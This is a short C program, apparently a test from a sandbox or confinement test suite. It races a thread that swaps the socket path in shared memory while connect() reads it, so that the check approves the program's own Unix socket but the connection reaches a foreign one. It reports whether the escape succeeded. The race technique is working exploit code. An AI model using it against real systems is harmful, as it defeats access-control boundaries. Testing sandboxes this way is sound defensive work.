// Changes the path in memory while connect reads it: judged as one socket, connected to another.

#include "attack.h"

int main(void) {
  struct sockaddr_un mine = unix_path(WORK("mine")), foreign = unix_path(target("ATTACK_GIVER"));
  int server = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
  if (server < 0 || bind(server, (struct sockaddr *)&mine, sizeof mine) || listen(server, 64)) refused("bind");
  struct flip flip = {.buffer = shared_page(), .one = &mine, .other = &foreign, .length = sizeof mine};
  start_flip(&flip);
  int granted = 0;
  for (int index = 0; index < TRIES; index++) {
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    if (fd < 0) refused("socket");
    if (connect(fd, (struct sockaddr *)flip.buffer, sizeof mine) == 0) {
      struct sockaddr_un peer;
      socklen_t length = sizeof peer;
      bool is_mine = getpeername(fd, (struct sockaddr *)&peer, &length) == 0 && !strcmp(peer.sun_path, mine.sun_path);
      if (!is_mine) won("a socket outside the scope was reached, after %d tries", index + 1);
      granted += is_mine;
      int accepted = accept(server, 0, 0);
      if (accepted >= 0) close(accepted);
    }
    close(fd);
  }
  blocked("0 of %d connects reached it; %d the granted one", TRIES, granted);
}
